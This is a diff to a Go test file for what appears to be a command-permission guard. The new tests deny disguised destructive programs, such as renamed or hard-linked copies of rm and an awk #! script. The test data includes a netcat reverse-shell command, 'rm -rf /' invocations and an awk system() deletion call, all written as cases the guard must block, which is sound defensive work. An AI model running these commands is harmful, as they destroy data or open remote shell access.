@@ -55,9 +55,10 @@ func TestCommand(t *testing.T) {
 		{[]string{"nc", "-e", "/bin/sh", "1.2.3.4", "9"}, Deny, Deny, "reverse shell"},
 		{[]string{"bash", "-c", "echo hi"}, Allow, Allow, ""},
 		{[]string{"nohup", "bash", "-c", "id"}, Deny, Deny, "shell started through"},
-		{[]string{"xargs", "sh", "-c", "id"}, Deny, Deny, "shell started through"},
+		{[]string{"xargs", "sh", "-c", "id"}, Deny, Deny, "system's xargs"},
 		{[]string{"unshare", "-r", "touch", "x"}, Ask, Allow, "unshare"},
-		{[]string{"xargs", "rm"}, Ask, Allow, "xargs"},
+		{[]string{"xargs", "rm"}, Deny, Deny, "system's xargs"},
+		{[]string{"env", "xargs", "cat"}, Deny, Deny, "system's xargs"},
 		{[]string{"go", "generate", "./..."}, Ask, Allow, "go:generate"},
 		{[]string{"npx", "cowsay"}, Ask, Allow, "code"},
 		{[]string{"awk", "BEGIN{system(\"id\")}"}, Deny, Deny, "system shell"},
@@ -223,5 +224,50 @@ func TestLinkIntoDataDir(t *testing.T) {
 	}
 	if v := g.Command(Command{Argv: []string{"ln", "-s", "../notes", "x/n"}, Dir: ws}); v.Decision != Allow {
 		t.Fatalf("ln -s ../notes x/n: %+v", v)
+	}
+}
+
+// A copy, hard link or #! script in the workspace is judged as what really
+// runs, in both modes.
+func TestDisguisedPrograms(t *testing.T) {
+	t.Parallel()
+	ws := t.TempDir()
+	copyFile := func(from, to string) {
+		t.Helper()
+		b, err := os.ReadFile(from)
+		if err != nil {
+			t.Skipf("%s not installed: %v", from, err)
+		}
+		if err := os.WriteFile(filepath.Join(ws, to), b, 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	copyFile("/bin/rm", "zap")
+	if err := os.WriteFile(filepath.Join(ws, "b.awk"), []byte("#!/usr/bin/awk -f\nBEGIN { system(\"rm -rf victim\") }\n"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Link(filepath.Join(ws, "zap"), filepath.Join(ws, "zap2")); err != nil {
+		t.Fatal(err)
+	}
+	for _, tc := range []struct {
+		argv          []string
+		host, sandbox Decision
+		reason        string
+	}{
+		{[]string{"./zap", "-rf", "/"}, Deny, Deny, "runs as rm"},
+		{[]string{"./zap2", "-rf", "/"}, Deny, Deny, "runs as rm"},
+		{[]string{"./b.awk"}, Deny, Deny, "system shell"},
+	} {
+		for _, mode := range []Mode{Host, Sandbox} {
+			g := New(Options{Mode: mode, Workspace: ws, TempDirs: []string{}})
+			v := g.Command(Command{Argv: tc.argv, Dir: ws, Path: filepath.Join(ws, tc.argv[0])})
+			want := tc.host
+			if mode == Sandbox {
+				want = tc.sandbox
+			}
+			if v.Decision != want || (want != Allow && !strings.Contains(v.Reason, tc.reason)) {
+				t.Errorf("%v mode %v: %v %q; want %v with %q", tc.argv, mode, v.Decision, v.Reason, want, tc.reason)
+			}
+		}
 	}
 }
